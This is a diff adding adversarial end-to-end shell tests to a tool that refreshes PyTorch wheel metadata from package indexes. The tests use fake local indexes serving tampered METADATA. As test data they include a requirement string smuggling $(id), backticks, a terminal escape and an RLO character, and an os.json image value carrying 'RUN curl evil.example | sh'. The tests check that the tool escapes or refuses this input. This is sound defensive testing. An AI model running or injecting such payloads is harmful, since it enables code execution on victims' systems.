@@ -131,6 +131,93 @@ import json, sys
 t = [r for r in json.load(open('$WORK/data2/torch.json'))['torch'] if r['version'] == '2.11.0'][0]
 sys.exit(t['variants']['cu130']['arch_list'] != ['7.5', '8.0+PTX'])"
   kill "$INDEX_PID" 2>/dev/null
+
+  # Hostile indexes (adversarial round 2, N5-N7). start_index NAME ARGS...: a fake index in
+  # the background; its URL in $URL, its pid in $INDEX_PID.
+  start_index() {
+    local name=$1; shift
+    python3 "$ROOT/tests/e2e/lib/fake_index.py" "$ROOT/tests/data/pypi" "$@" --pep658 torch torchvision \
+      >"$WORK/port-$name" 2>"$WORK/index-$name.err" &
+    INDEX_PID=$!
+    for _ in $(seq 100); do [ -s "$WORK/port-$name" ] && break; sleep 0.1; done
+    URL="http://127.0.0.1:$(cat "$WORK/port-$name")/simple/"
+  }
+  # torch METADATA with one line replaced: md NAME OLD NEW
+  md() { python3 -c 'import sys; t = open(sys.argv[1]).read(); assert sys.argv[2] in t
+open(sys.argv[4], "w").write(t.replace(sys.argv[2], sys.argv[3]))' \
+      "$ROOT/tests/data/pypi/torch-2.11.0.METADATA" "$2" "$3" "$WORK/$1.md"; }
+  field() { python3 -c "
+import json, sys
+t = [r for r in json.load(open('$1/torch.json'))['torch'] if r['version'] == '2.11.0'][0]
+print(t['variants']['cu130']['$2'])"; }
+
+  # N5: an arbitrary-equality (===) cuDNN requirement with quotes, $(), backticks, an ESC and
+  # an RLO is no fact: reported (escaped) as not pinned, never written.
+  md arbitrary "nvidia-cudnn-cu13==9.19.0.56" \
+    $'nvidia-cudnn-cu13===9.19"$(id)`id`\e]0;PWN\a\u202e'
+  start_index arbitrary --torch-metadata "$WORK/arbitrary.md"
+  cp -r data "$WORK/data5"
+  run kb refresh --release 2.11.0 --data "$WORK/data5" --index-url "$URL"
+  check "N5: an === pin is not a fact (exit 0, nothing to write)" test "$(rc)" = 0
+  check "N5: it is reported as not pinned" has err "variants.cu130.cudnn: nvidia-cudnn-cu13===9.19"
+  check "N5: ... with the reason" has err "is not pinned (only ==VERSION"
+  check "N5: the ESC is shown escaped" has err '\x1b]0;PWN\x07'
+  check "N5: no raw ESC or RLO reaches the terminal" python3 -c "
+import sys; b = open('$WORK/err', 'rb').read() + open('$WORK/out', 'rb').read()
+sys.exit(b'\x1b' in b or '\u202e'.encode() in b)"
+  check "N5: the data keeps its cuDNN" test "$(field "$WORK/data5" cudnn)" = 9.19.0.56
+  check "N5: data unchanged" diff -r data "$WORK/data5" -x .torchdock-kb.lock
+  kill "$INDEX_PID" 2>/dev/null
+
+  # N6: METADATA whose Version is not the wheel's: the wheel is refused with a clear message.
+  md mismatch "Version: 2.11.0" "Version: 2.10.0"
+  start_index mismatch --torch-metadata "$WORK/mismatch.md"
+  run kb refresh --release 2.11.0 --data "$WORK/data5" --index-url "$URL"
+  check "N6: METADATA of another version refuses the wheel (exit 2)" test "$(rc)" = 2
+  check "N6: the message names the wheel and both versions" has err 'says version "2.10.0", not "2.11.0"; wheel refused'
+  check "N6: data unchanged" diff -r data "$WORK/data5" -x .torchdock-kb.lock
+  kill "$INDEX_PID" 2>/dev/null
+
+  # N7: two runs at once on one data directory, A changing cuDNN and B NCCL (every answer
+  # delayed so they overlap): both updates are kept.
+  md cudnn "nvidia-cudnn-cu13==9.19.0.56" "nvidia-cudnn-cu13==9.19.0.57"
+  md nccl "nvidia-nccl-cu13==2.28.9" "nvidia-nccl-cu13==2.28.10"
+  start_index a --torch-metadata "$WORK/cudnn.md" --delay 0.2; URL_A=$URL; PID_A=$INDEX_PID
+  start_index b --torch-metadata "$WORK/nccl.md" --delay 0.2; URL_B=$URL; PID_B=$INDEX_PID
+  cp -r data "$WORK/data7"
+  "$TD" kb refresh --release 2.11.0 --data "$WORK/data7" --index-url "$URL_A" >"$WORK/a.out" 2>"$WORK/a.err" &
+  RUN_A=$!
+  "$TD" kb refresh --release 2.11.0 --data "$WORK/data7" --index-url "$URL_B" >"$WORK/b.out" 2>"$WORK/b.err"
+  RC_B=$?
+  wait "$RUN_A"; RC_A=$?
+  check "N7: both concurrent runs succeed" test "$RC_A$RC_B" = 00
+  check "N7: A's cuDNN update is kept" test "$(field "$WORK/data7" cudnn)" = 9.19.0.57
+  check "N7: B's NCCL update is kept" test "$(field "$WORK/data7" nccl)" = 2.28.10
+  # A lock held elsewhere: a bounded wait, then a clear error naming the lock; nothing written.
+  cp -r data "$WORK/data7b"
+  flock "$WORK/data7b/.torchdock-kb.lock" sleep 30 &
+  HOLDER=$!
+  sleep 0.5
+  run kb refresh --release 2.11.0 --data "$WORK/data7b" --index-url "$URL_A" --lock-wait 1
+  check "N7: a held lock ends the run after --lock-wait (exit 3)" test "$(rc)" = 3
+  check "N7: the error names the lock file" has err "data7b/.torchdock-kb.lock"
+  check "N7: it said it was waiting" has err "waiting for the lock"
+  check "N7: nothing was written" test "$(field "$WORK/data7b" cudnn)" = 9.19.0.56
+  kill "$HOLDER" "$PID_A" "$PID_B" 2>/dev/null
+
+  # N11: render refuses a data directory whose os.json image carries an instruction.
+  cp -r data "$WORK/data11"
+  python3 - "$WORK/data11/os.json" <<'PY'
+import json, sys
+p = sys.argv[1]; d = json.load(open(p))
+for o in d["os"]:
+    if o["id"] == "debian12":
+        o["image"] = "debian:bookworm\nRUN curl evil.example | sh #"
+json.dump(d, open(p, "w"), indent=1)
+PY
+  run render --check --data "$WORK/data11"
+  check "N11: render refuses an edited data dir (exit 2)" test "$(rc)" = 2
+  check "N11: the error names file, JSON path and value" has err 'os.json: $.os[3].image: "debian:bookworm\nRUN curl evil.example | sh #" refused'
   finish
   exit $?
 fi
